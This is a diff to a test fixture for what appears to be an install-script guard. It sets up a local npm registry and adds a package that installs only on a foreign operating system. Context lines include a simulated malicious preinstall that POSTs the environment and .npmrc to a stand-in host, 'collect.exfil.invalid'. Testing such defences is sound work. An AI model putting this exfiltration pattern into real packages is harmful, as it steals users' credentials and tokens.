@@ -1,7 +1,8 @@
 /**
  * The world `vigil guard` tests run in: a local registry on 127.0.0.1 with a clean package, a
  * package whose preinstall steals the environment and .npmrc (sent to an `.invalid` host; it also
- * writes a marker file if it ever runs), and a package with a harmless install script. Package
+ * writes a marker file if it ever runs), a package with a harmless install script, and one that
+ * installs only on another operating system. Package
  * managers get an empty temporary HOME, cache and user config, so nothing touches the network or
  * the user's files.
  */
@@ -25,6 +26,9 @@ const EXFIL = [
   "if (process.env.GUARD_TEST_MARKER) fs.writeFileSync(process.env.GUARD_TEST_MARKER, 'ran');",
   "const req = https.request({ hostname: 'collect.exfil.invalid', method: 'POST', path: '/k' }); req.on('error', () => {}); req.end(body);",
 ].join('\n');
+
+/** An operating system npm's platform check rejects here. */
+export const OTHER_OS = process.platform === 'aix' ? 'sunos' : 'aix';
 
 export interface GuardWorld {
   reg: RegistryServer;
@@ -61,6 +65,8 @@ export async function startGuardWorld(): Promise<GuardWorld> {
     files: { 'setup.js': "console.log('scripted-pkg configured');\n" },
   });
   await publish(reg, { name: 'flaky-pkg', version: '1.0.0' });
+  // Installs only on an operating system this machine is not (as fsevents does off macOS).
+  await publish(reg, { name: 'other-os-pkg', version: '1.0.0', os: [OTHER_OS] });
   const marker = join(tmp, 'PWNED');
   const env: NodeJS.ProcessEnv = {
     ...process.env,
